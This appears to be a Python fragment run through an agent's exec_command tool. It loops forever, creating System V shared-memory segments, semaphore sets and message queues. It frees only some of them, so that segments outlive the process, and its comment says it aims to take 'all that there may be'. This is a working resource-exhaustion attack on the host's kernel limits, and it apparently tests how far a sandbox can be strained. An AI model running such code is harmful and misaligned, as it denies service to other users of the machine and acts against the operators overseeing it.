# takes: System V memory, which outlives its process, and semaphores with what undoes them: all that there may be
# tool: exec_command
def work(index):
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = (ctypes.c_void_p,)
    operation = struct.pack("HhH", 0, 1, 0x1000)  # SEM_UNDO
    while True:
        for size in (1 << 12, 1 << 20, 1 << 26):
            number = libc.shmget(0, size, 0o1600)
            place = libc.shmat(number, None, 0) if number >= 0 else 0
            if place and place != (1 << 64) - 1:
                ctypes.memset(place, 1, size)
                libc.shmdt(place)
            if index % 2 and number >= 0:
                libc.shmctl(number, 0, None)  # IPC_RMID
        one = libc.semget(0, 250, 0o1600)
        if one >= 0:
            libc.semop(one, operation, 1)
            if index % 2:
                libc.semctl(one, 0, 0, 0)
        libc.msgget(0, 0o1600)
        yield


swarm(work)
